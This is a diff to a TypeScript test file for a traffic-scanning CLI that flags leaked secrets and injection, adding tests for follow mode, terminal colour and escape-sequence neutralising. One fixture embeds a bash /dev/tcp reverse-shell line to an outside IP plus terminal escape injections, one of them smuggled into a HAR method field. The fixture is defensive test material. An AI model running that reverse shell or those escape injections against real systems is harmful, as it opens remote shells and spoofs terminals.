@@ -534,7 +534,13 @@ describe('start, status, findings, report with real traffic', () => {
     expect(run(['report', '--format', 'pdf'], { home }).code).toBe(2);
   });
 
-  it('start --json emits started/finding/stopped events', async () => {
+  it('start --json emits started/finding/stopped events; findings --follow sees the new one', async () => {
+    const follow = spawn(process.execPath, [BIN, 'findings', '--follow', '--json'], { env: cleanEnv(home), stdio: ['ignore', 'pipe', 'pipe'] });
+    let followOut = '';
+    follow.stdout.setEncoding('utf8').on('data', (d: string) => (followOut += d));
+    const followExit = new Promise<number | null>((resolve) => follow.on('exit', (code) => resolve(code)));
+    // The initial listing (the two findings of the first run) comes first.
+    await waitFor(() => jsonl(followOut).length >= 2, 10_000);
     const g = startCli(['--listen', '127.0.0.1:0', '--json']);
     try {
       const started = await waitFor(() => {
@@ -553,6 +559,17 @@ describe('start, status, findings, report with real traffic', () => {
     expect(ev.map((e) => e['event'])).toEqual(['started', 'finding', 'stopped']);
     expect((ev[1]?.['finding'] as Record<string, unknown>)['pattern']).toBe('aws_access_key_id');
     expect((ev[2]?.['summary'] as { findings: { total: number } }).findings.total).toBe(1);
+    const newId = (ev[1]?.['finding'] as Record<string, unknown>)['id'];
+    try {
+      await waitFor(() => jsonl(followOut).some((f) => f['id'] === newId), 10_000);
+    } finally {
+      follow.kill('SIGINT');
+    }
+    expect(await followExit).toBe(0);
+    outputs.push(followOut);
+    const ids = jsonl(followOut).map((f) => f['id']);
+    expect(new Set(ids).size).toBe(ids.length);
+    expect(ids).toHaveLength(3);
   });
 
   it('start refuses an invalid config with exit 1', () => {
@@ -566,7 +583,60 @@ describe('start, status, findings, report with real traffic', () => {
   });
 });
 
+const hasScript = spawnSync('script', ['--version'], { encoding: 'utf8' }).status === 0;
+
+describe('on a terminal', () => {
+  /** Runs the CLI under a pseudo-terminal (util-linux `script`); `keys` are typed after `delayMs`. */
+  function tty(cmd: string, home: string, extra: Record<string, string> = {}, keys?: { delayMs: number; text: string }): Promise<{ code: number | null; out: string }> {
+    return new Promise((resolve) => {
+      const c = spawn('script', ['-qfec', `exec ${JSON.stringify(process.execPath)} ${JSON.stringify(BIN)} ${cmd}`, '/dev/null'], {
+        env: { ...cleanEnv(home), TERM: 'xterm', ...extra },
+        stdio: ['pipe', 'pipe', 'pipe'],
+      });
+      let out = '';
+      c.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
+      if (keys) setTimeout(() => c.stdin.write(keys.text), keys.delayMs);
+      c.on('exit', (code) => resolve({ code, out }));
+    });
+  }
+
+  it.skipIf(!hasScript)('start shows colour, a live counter line, and stops on Ctrl-C', async () => {
+    const r = await tty('start --listen 127.0.0.1:0', join(tmp, 'tty'), {}, { delayMs: 2500, text: '\x03' });
+    expect(r.code).toBe(0);
+    expect(r.out).toContain('\x1b[1mtraffic guardian\x1b[22m listening on');
+    expect(r.out).toMatch(/\r\x1b\[2K.*requests .*findings .*scanned/);
+    expect(r.out).toContain('traffic guardian stopped');
+    outputs.push(r.out.replace(/\x1b\[[0-9;]*[A-Za-z]/g, ''));
+  });
+
+  it.skipIf(!hasScript)('NO_COLOR turns colour off even on a terminal', async () => {
+    const r = await tty('rules --type INJECTION', join(tmp, 'tty'), { NO_COLOR: '1' });
+    expect(r.code).toBe(0);
+    expect(r.out).toContain('reverse_shell_dev_tcp');
+    expect(r.out).not.toContain('\x1b[');
+    const c = await tty('rules --type INJECTION', join(tmp, 'tty'));
+    expect(c.out).toContain('\x1b[');
+  });
+});
+
 describe('output hygiene', () => {
+  it('terminal control sequences from traffic are neutralised', () => {
+    const page = `<html><body>\x1b]0;owned\x07\x1b[2J<pre>bash -i >& /dev/tcp/198.51.100.2/4444 0>&1</pre>\x1b[31m</body></html>`;
+    const r = run(['scan', '-', '--direction', 'inbound'], { input: page });
+    expect(r.code).toBe(3);
+    expect(r.stdout).toContain('reverse_shell_dev_tcp');
+    expect(r.stdout).not.toContain('\x1b');
+    expect(r.stdout).not.toContain('\x07');
+    // Fields the CLI prints itself (a HAR entry's method) are neutralised too.
+    const har = JSON.stringify({
+      log: { entries: [{ request: { method: 'GET\x1b]0;owned\x07', url: 'http://h.example/', headers: [] }, response: { status: 200, headers: [], content: { text: page } } }] },
+    });
+    const h = run(['scan', '-', '--har'], { input: har });
+    expect(h.code).toBe(3);
+    expect(h.stdout).toContain('#1 GET\\u{1b}]0;own');
+    expect(h.stdout).not.toContain('\x1b');
+  });
+
   it('no secret and no colour escape in any captured output', () => {
     const all = outputs.join('\n');
     expect(all.length).toBeGreaterThan(1000);
